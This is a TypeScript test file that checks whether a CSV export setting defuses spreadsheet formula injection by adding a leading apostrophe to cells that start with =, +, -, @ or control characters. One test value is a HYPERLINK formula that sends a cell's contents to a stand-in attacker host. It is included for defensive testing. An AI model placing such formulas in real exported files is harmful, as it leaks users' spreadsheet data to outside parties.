import { stringify } from 'csv-stringify/sync';
import { CSV_OPTIONS } from './csv';

describe('CSV_OPTIONS', () => {
  const cell = (value: unknown): string =>
    stringify([[value]], { ...CSV_OPTIONS, bom: false }).replace(/\r?\n$/, '');

  it.each([
    [
      '=HYPERLINK("https://evil.example/?d="&A1,"Studio")',
      `"'=HYPERLINK(""https://evil.example/?d=""&A1,""Studio"")"`,
    ],
    ['+1+1', "'+1+1"],
    ['-1-1', "'-1-1"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\t=1', "'\t=1"],
    ['\r=1', `"'\r=1"`],
    ['＝1+1', "'＝1+1"],
  ])('defuses the formula %j', (value, expected) => {
    expect(cell(value)).toBe(expected);
  });

  it('leaves ordinary text and numbers, negative ones included, as they are', () => {
    expect(cell('Студия "Қазақ", ТОО')).toBe('"Студия ""Қазақ"", ТОО"');
    expect(cell('documentary')).toBe('documentary');
    expect(cell(-150000000)).toBe('-150000000');
    expect(cell(42)).toBe('42');
  });
});
